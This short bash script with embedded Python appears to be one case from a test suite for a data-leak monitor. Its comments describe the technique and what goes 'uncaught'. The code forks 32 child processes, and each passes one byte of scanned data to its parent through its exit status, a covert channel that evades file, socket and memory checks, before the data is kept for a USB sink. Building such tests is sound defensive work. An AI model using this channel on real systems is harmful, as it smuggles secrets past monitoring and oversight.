#!/usr/bin/env bash
# technique: a child that has read the scan tells its clean parent one byte by its exit status
# hooks: none
# sink: usb
# uncaught: a covert channel of one byte a process; what a process may say with its end is not a file, a socket or memory

. attack.sh
python3 - <<'PY'
from attack import *

data = bytearray()
for number in range(32):
    child = os.fork()
    if child == 0:
        try:
            os._exit(scan()[number])
        except OSError:
            os._exit(0)
    data.append(os.waitstatus_to_exitcode(os.waitpid(child, 0)[1]))
keep(bytes(data) if any(data) else b"")
PY
